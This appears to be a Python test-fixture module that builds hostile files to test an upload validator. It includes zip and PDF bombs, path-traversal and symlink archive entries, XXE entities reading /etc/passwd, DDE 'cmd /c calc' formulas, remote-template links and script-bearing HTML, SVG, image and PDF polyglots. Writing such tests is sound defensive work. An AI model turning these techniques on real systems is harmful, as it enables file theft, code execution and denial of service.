"""Hostile files, built here and kept nowhere: each a function that gives the bytes of one."""

import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from tests.documents.corpus_like import county_table, repacked, workbook


def worked() -> float:
    """Return the seconds that this process and what it started have worked: a busy machine does not make them more."""
    spent = os.times()
    return spent.user + spent.system + spent.children_user + spent.children_system


TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def packed(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Pack parts into a zip container."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", method) as container:
        for name, content in parts.items():
            container.writestr(name, content)
    return stream.getvalue()


def docx(body: str = "<w:p><w:r><w:t>关于进展情况的报告</w:t></w:r></w:p>", **more: bytes | str) -> bytes:
    """Build a Word document of a body and more parts (``word__settings`` is word/settings.xml)."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": TYPES,
        "word/document.xml": f"<w:document {WORD}><w:body>{body}</w:body></w:document>",
    }
    parts.update({name.replace("__", "/") + ".xml": content for name, content in more.items()})
    return packed(parts)


def good_xlsx() -> bytes:
    return workbook(county_table())


def with_part(data: bytes, name: str, content: bytes | str) -> bytes:
    """Add a part to a container."""
    stream = BytesIO(data)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as container:
        container.writestr(name, content)
    return stream.getvalue()


def in_sheet(change: Callable[[bytes], bytes], data: bytes | None = None) -> bytes:
    """Change the first sheet of a good workbook."""
    return repacked(data or good_xlsx(), lambda name, part: change(part) if name.endswith("sheet1.xml") else part)


def truncated_zip() -> bytes:
    return good_xlsx()[:-400]


def wrong_magic() -> bytes:
    return b"\x7fELF" + bytes(4000)


def random_bytes() -> bytes:
    return random.Random(7).randbytes(20_000)


def zip_of_random_parts() -> bytes:
    return packed({"xl/workbook.xml": random.Random(8).randbytes(5000), "[Content_Types].xml": TYPES})


def zip_bomb() -> bytes:
    return with_part(good_xlsx(), "xl/media/image1.bin", bytes(150 * 1024 * 1024))


def lying_sizes() -> bytes:
    """Declare a small size for a part that inflates to more."""
    data = bytearray(with_part(good_xlsx(), "xl/bomb.xml", b"<a>" + b" " * 900_000 + b"</a>"))
    real = struct.pack("<I", 900_007)
    place = data.find(real)
    while place >= 0:
        data[place : place + 4] = struct.pack("<I", 50)
        place = data.find(real, place + 4)
    return bytes(data)


def too_many_entries() -> bytes:
    return packed({f"xl/{number}.xml": "" for number in range(65_536)}, zipfile.ZIP_STORED)


def few_too_many_entries() -> bytes:
    return packed({"[Content_Types].xml": TYPES, **{f"xl/{number}.xml": "<a/>" for number in range(2_100)}})


def symlink() -> bytes:
    stream = BytesIO(good_xlsx())
    with zipfile.ZipFile(stream, "a") as container:
        link = zipfile.ZipInfo("xl/link.xml")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        container.writestr(link, "/etc/passwd")
    return stream.getvalue()


def climbing_path() -> bytes:
    return with_part(good_xlsx(), "../../etc/cron.d/x.xml", "<a/>")


def absolute_path() -> bytes:
    return with_part(good_xlsx(), "/etc/passwd.xml", "<a/>")


def drive_path() -> bytes:
    return with_part(good_xlsx(), "C:\\windows\\x.xml", "<a/>")


def overlapping_parts() -> bytes:
    """Let two entries of the directory point at the same bytes (as the quoted-overlap bombs do)."""
    data = with_part(with_part(good_xlsx(), "xl/one.xml", b"<a>" + b"x" * 300 + b"</a>"), "xl/two.xml", "<a/>")
    with zipfile.ZipFile(BytesIO(data)) as container:
        first, second = container.getinfo("xl/one.xml"), container.getinfo("xl/two.xml")
    changed = bytearray(data)
    place = changed.rfind(b"xl/two.xml") - 46
    changed[place + 42 : place + 46] = struct.pack("<I", first.header_offset)
    changed[place + 46 : place + 56] = b"xl/one.xm2"
    assert second.header_offset
    return bytes(changed)


def same_name_twice() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(BytesIO(good_xlsx())) as source, zipfile.ZipFile(stream, "w") as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        target.fp.flush()
        info = zipfile.ZipInfo("xl/workbook.xmX")
        target.writestr(info, "<a/>")
    return stream.getvalue().replace(b"xl/workbook.xmX", b"xl/workbook.xml")


def nested_zip() -> bytes:
    return with_part(good_xlsx(), "xl/inner.zip", packed({"a.txt": "a"}))


def encrypted_entry() -> bytes:
    data = bytearray(good_xlsx())
    place = data.find(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def odd_compression() -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_LZMA) as container:
        container.writestr("xl/workbook.xml", "<a/>")
    return stream.getvalue()


def doctype_entity() -> bytes:
    return in_sheet(
        lambda part: part.replace(
            b"<worksheet", b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><worksheet', 1
        )
    )


def external_entity() -> bytes:
    return repacked(
        good_xlsx(),
        lambda name, part: (
            part
            if not name.endswith("sharedStrings.xml")
            else part.replace(b"<sst", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst', 1)
        ),
    )


def doctype_in_utf16() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    return with_part(good_xlsx(), "docProps/custom.xml", b"\xff\xfe" + text.encode("utf-16-le"))


def external_link() -> bytes:
    return with_part(good_xlsx(), "xl/externalLinks/externalLink1.xml", "<externalLink/>")


def dde_link() -> bytes:
    return with_part(good_xlsx(), "xl/links.xml", '<l><ddeLink ddeService="cmd" ddeTopic="/c calc"/></l>')


def dde_formula() -> bytes:
    return in_sheet(
        lambda part: part.replace(
            b"<sheetData>", b'<sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row>', 1
        )
    )


def data_connection() -> bytes:
    return with_part(good_xlsx(), "xl/connections.xml", "<connections/>")


def macro_part() -> bytes:
    return with_part(good_xlsx(), "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")


def macro_type() -> bytes:
    return repacked(
        good_xlsx(),
        lambda name, part: (
            part
            if not name.startswith("[Content")
            else part.replace(b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")
        ),
    )


def embedded_object() -> bytes:
    return with_part(good_xlsx(), "xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")


def compound(names: list[str], head: bytes = b"") -> bytes:
    """Build an OLE compound file with streams of these names; ``head`` begins the first of them."""
    entry = b""
    body = head.ljust(4096, b"\0")
    for number, name in enumerate(["Root Entry", *names]):
        text = name.encode("utf-16-le") + b"\0\0"
        entry += text.ljust(64, b"\0") + struct.pack("<H", len(text)) + bytes([5 if number == 0 else 2, 1]) + bytes(48)
        entry += struct.pack("<II", 2, len(body)) + bytes(4)
    directory = entry.ljust((len(entry) + 511) // 512 * 512, b"\0")
    count, start = len(directory) // 512, 2 + len(body) // 512
    table = [0xFFFFFFFD, 0xFFFFFFFF] + [n + 1 for n in range(2, start - 1)] + [0xFFFFFFFE]
    table += [n + 1 for n in range(start, start + count - 1)] + [0xFFFFFFFE]
    fat = b"".join(struct.pack("<I", n) for n in table).ljust(512, b"\xff")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, start, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0)
    return header.ljust(512, b"\xff") + fat + bytes(512) + body + directory


def office_with_password() -> bytes:
    return compound(["EncryptedPackage", "EncryptionInfo"])


def old_excel() -> bytes:
    return compound(["Workbook"])


def old_excel_with_password() -> bytes:
    return compound(["Workbook"], struct.pack("<HH", 0x809, 16) + bytes(16) + struct.pack("<HH", 0x2F, 54) + bytes(54))


def old_word() -> bytes:
    return compound(["WordDocument", "1Table"])


def old_word_with_password() -> bytes:
    return compound(["WordDocument"], bytes(10) + struct.pack("<H", 0x0100))


def old_word_with_macros() -> bytes:
    return compound(["WordDocument", "Macros", "VBA", "_VBA_PROJECT"])


def ring_of_sectors() -> bytes:
    """Let the chain of the directory bite its tail."""
    data = bytearray(old_word())
    start = struct.unpack_from("<I", data, 48)[0]
    struct.pack_into("<I", data, 512 + 4 * start, start)
    return bytes(data)


def million_columns() -> bytes:
    return in_sheet(
        lambda part: part.replace(b"</sheetData>", b'<row r="2000"><c r="XFD2000"><v>1</v></c></row></sheetData>')
    )


def million_rows() -> bytes:
    return in_sheet(
        lambda part: part.replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>')
    )


def six_thousand_rows() -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(100, 6_101))
    return in_sheet(lambda part: part.replace(b"</sheetData>", rows + b"</sheetData>"))


def sea_of_merges() -> bytes:
    merges = b"".join(b'<mergeCell ref="A%d:XFD%d"/>' % (n, n + 900) for n in range(10, 1_000))
    return in_sheet(lambda part: part.replace(b"</mergeCells>", merges + b"</mergeCells>"))


def shared_string_bomb() -> bytes:
    """One long string, pointed at by every cell of a large sheet: small on disk, huge in memory."""
    strings = b"<sst><si><t>" + bytes(random.Random(3).choices(b"abcdefghij", k=32_000)) + b"</t></si></sst>"
    cells = b"".join(
        b'<row r="%d">' % r
        + b"".join(b'<c r="%s%d" t="s"><v>0</v></c>' % (bytes([65 + c]), r) for c in range(26))
        + b"</row>"
        for r in range(1, 4_001)
    )
    data = in_sheet(
        lambda part: part[: part.find(b"<sheetData>")] + b"<sheetData>" + cells + b"</sheetData></worksheet>"
    )
    return repacked(data, lambda name, part: strings if name.endswith("sharedStrings.xml") else part)


def deep_nesting() -> bytes:
    return with_part(good_xlsx(), "xl/deep.xml", b"<a>" * 100_000 + b"</a>" * 100_000)


def sea_of_elements() -> bytes:
    return with_part(
        good_xlsx(), "xl/sea.xml", b"<a>" + b"".join(b"<b%d/>" % (n % 97) for n in range(3_200_000)) + b"</a>"
    )


def broken_xml() -> bytes:
    return in_sheet(lambda part: part[: len(part) // 2])


def empty_container() -> bytes:
    return packed({})


def sheet_of_pictures_only() -> bytes:
    return packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<workbook/>"})


def docx_as_xlsx() -> bytes:
    return docx()


def remote_template() -> bytes:
    return with_part(
        docx(),
        "word/_rels/settings.xml.rels",
        (
            f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/attachedTemplate" Target="http://10.0.0.8/x.dotm" '
            'TargetMode="External"/></Relationships>'
        ),
    )


def remote_picture() -> bytes:
    return with_part(
        docx(),
        "word/_rels/document.xml.rels",
        (
            f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/image" Target="\\\\10.0.0.8\\share\\x.png" '
            'TargetMode="External"/></Relationships>'
        ),
    )


def dde_field() -> bytes:
    runs = ("<w:instrText> DD</w:instrText>", "<w:instrText>EAUTO c:\\\\x</w:instrText>")
    return docx("<w:p>" + "".join(f"<w:r>{run}</w:r>" for run in runs) + "</w:p>")


def docx_with_entity() -> bytes:
    entity = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = f"<w:document {WORD}><w:body>&x;</w:body></w:document>"
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": entity + body})


def docx_with_package() -> bytes:
    return with_part(docx(), "word/embeddings/oleObject1.bin", old_word())


def docx_in_docx_in_docx() -> bytes:
    inner = with_part(docx(), "word/embeddings/b.docx", docx())
    return with_part(docx(), "word/embeddings/a.docx", inner)


def truncated_docx() -> bytes:
    return docx()[:200]


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'


def script_in_text() -> bytes:
    return "各单位：\n<script>fetch('/')</script>".encode()


def png(trailer: bytes = b"", size: tuple[int, int] = (1, 1), comment: bytes = b"") -> bytes:
    """Build a picture of one pixel."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    extra = chunk(b"tEXt", comment) if comment else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 2, 0, 0, 0))
        + extra
        + chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff"))
        + chunk(b"IEND", b"")
        + trailer
    )


def jpg(trailer: bytes = b"") -> bytes:
    """Build the frame of a picture."""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 1, 1, 1) + b"\x01\x11\0"
    start = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    return start + frame + b"\xff\xda\0\x08\1\1\0\0?\0" + b"\x7f\xff\xd9" + trailer


def picture_with_page() -> bytes:
    return png(comment=b"Comment\0<script>alert(1)</script>")


def picture_with_tail() -> bytes:
    return png(b"<html><script>alert(1)</script>")


def flood_of_pixels() -> bytes:
    return png(size=(100_000, 100_000))


def cut_picture() -> bytes:
    return png()[:60]


def gif_with_page() -> bytes:
    return b"GIF89a/*" + b"<html>" + b"*/=1;alert(1)"


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """Build a small PDF of these objects."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in enumerate(objects, 1))
    return b"%PDF-1.5\n" + body + b"trailer<</Root 1 0 R" + tail + b">>\nstartxref\n9\n%%EOF\n"


def stream(content: bytes) -> bytes:
    """Give a deflated stream object."""
    packed_content = zlib.compress(content)
    return b"<</Length %d/Filter/FlateDecode>>\nstream\n" % len(packed_content) + packed_content + b"\nendstream"


def pdf_with_script() -> bytes:
    return pdf(b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")


def pdf_with_hidden_script() -> bytes:
    return pdf(b"<</Type/Catalog/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>>>")


def pdf_with_packed_script() -> bytes:
    return pdf(b"<</Type/Catalog>>", stream(b"5 0 <</S/JavaScript/JS(x)>>"))


def pdf_with_password() -> bytes:
    return pdf(b"<</Type/Catalog>>", tail=b"/Encrypt 5 0 R")


def pdf_with_file() -> bytes:
    return pdf(b"<</Type/Catalog/Names<</EmbeddedFiles 2 0 R>>>>", b"<</Type/EmbeddedFile>>")


def pdf_bomb() -> bytes:
    return pdf(*[stream(bytes(30_000_000)) for _ in range(6)])


def cut_pdf() -> bytes:
    return pdf(b"<</Type/Catalog>>")[:-20]


def zero_bytes() -> bytes:
    return b""


def executable() -> bytes:
    return b"MZ\x90\0" + bytes(3000)


def archive() -> bytes:
    return packed({"a.txt": "a"})
